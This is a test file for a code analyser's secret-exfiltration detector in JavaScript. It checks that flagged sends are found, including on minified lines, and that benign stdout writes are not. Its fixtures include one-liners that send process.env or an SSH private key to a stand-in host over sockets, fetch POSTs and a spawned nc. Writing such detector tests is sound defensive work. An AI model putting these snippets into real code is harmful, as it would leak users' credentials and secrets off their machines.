// Secrets sent out from JavaScript: the attacks are found, on short lines or minified ones, while
// honest bundles (a child spawned with the whole environment, output written to stdout) are not.
import { describe, expect, it } from "vitest";
import { analyzeCode } from "./code-flow.js";
import { withShellTree } from "./parser.js";

const sends = (text: string): number[] =>
  analyzeCode(text, "node", { parse: withShellTree })
    .filter((event) => event.rule === "secret-exfiltration")
    .map((event) => event.index);

/** Minified code touching nothing of interest, `length` characters of it. */
const filler = (length: number): string =>
  Array.from({ length: Math.ceil(length / 16) }, (_, index) => `let a${String(index % 1000).padStart(3, "0")}=b+c*2;`)
    .join("")
    .slice(0, length);

describe("secret-exfiltration in JavaScript", () => {
  it.each([
    ["a request written the whole environment", "https.request(opts).write(JSON.stringify(process.env));"],
    ["a socket written the whole environment", 'net.connect(4444, "e.invalid").write(JSON.stringify(process.env));'],
    ["a POST whose body is the environment", 'fetch(u,{method:"POST",body:JSON.stringify(process.env)})'],
    ["the body before the method", 'fetch(u,{body:JSON.stringify(process.env),method:"POST"})'],
    [
      "a copy of the environment written lines later",
      "const e = { ...process.env };\nconst a = 1;\nconst b = 2;\nreq.write(JSON.stringify(e));",
    ],
    [
      "an SSH key written to a socket",
      'const key = fs.readFileSync(os.homedir() + "/.ssh/id_rsa");\nconst s = net.connect(4444, "e.invalid");\ns.write(key);',
    ],
    ["the environment read on the line after the send", "req.write(\n  JSON.stringify(process.env),\n);"],
    ["a child's stdin written the environment", 'spawn("nc", ["e.invalid", "4444"]).stdin.write(JSON.stringify(process.env))'],
    ["a POST that names an empty header", 'fetch(u,{method:"POST",headers:{},body:JSON.stringify(process.env)})'],
    ["the environment on a line naming Authorization", 'req.write(JSON.stringify({ authorization: "x", all: process.env }));'],
  ])("finds %s", (_, code) => {
    expect(sends(code)).toHaveLength(1);
  });

  it("finds a read and a send side by side in the middle of a long minified line, and points at the send", () => {
    const attack = 'const d=JSON.stringify(process.env);require("net").connect(4444,"e.invalid").write(d);';
    const line = `${filler(3000)}${attack}${filler(900)}`;
    expect(line.length).toBeLessThanOrEqual(4096);
    expect(sends(line)).toEqual([line.indexOf(".write(")]);
    const after = `${filler(3000)}q.write(Buffer.from(JSON.stringify(process.env)));${filler(900)}`;
    expect(sends(after)).toEqual([after.indexOf(".write(")]);
    const split = `${filler(3500)}q.write(\nJSON.stringify(process.env));${filler(3000)}`;
    expect(sends(split)).toHaveLength(1);
  });

  it("does not tie a send to a whole-environment read thousands of characters away on a minified line", () => {
    const spawnChild = 'spawn(cmd,args,{env:process.env,stdio:"pipe"});';
    expect(sends(`${spawnChild}${filler(3000)}this.output.write(JSON.stringify(m)+"\\n");`)).toEqual([]);
    expect(sends(`this.output.write(JSON.stringify(m)+"\\n");${filler(3000)}${spawnChild}`)).toEqual([]);
    expect(sends(`${spawnChild}${filler(3000)}process.stdout.write(o);`)).toEqual([]);
    expect(sends(`${filler(3500)}this.output.write(m);\n${filler(2000)}${spawnChild}`)).toEqual([]);
    // A minified line's first name is not a secret because the environment is read somewhere on it.
    expect(sends(`var e=require("x");${filler(2000)}${spawnChild}\nthis.output.write(e);`)).toEqual([]);
    expect(sends(`var e={...process.env};${filler(2000)}\nthis.output.write(e);`)).toHaveLength(1);
  });

  it("does not count writing to the process's own stdout or stderr as sending out", () => {
    expect(sends('const c = spawn(cmd, args, { env: process.env });\nprocess.stdout.write("started\\n");')).toEqual([]);
    expect(sends("function io(t){return t.env??process.env}function log(e){process.stderr.write(`${e}\\n`)}")).toEqual([]);
    expect(sends('s===void 0?process.exit(t):process[s].write("",()=>{r(o)});let e=process.env;')).toEqual([]);
    // Printing the environment shows it to the agent, whose channel stdout is: not sent off the machine.
    expect(sends("process.stdout.write(JSON.stringify(process.env));")).toEqual([]);
    // Another stream on the same line is still a send.
    expect(sends("process.stdout.write(x);sock.write(JSON.stringify(process.env));")).toHaveLength(1);
  });
});
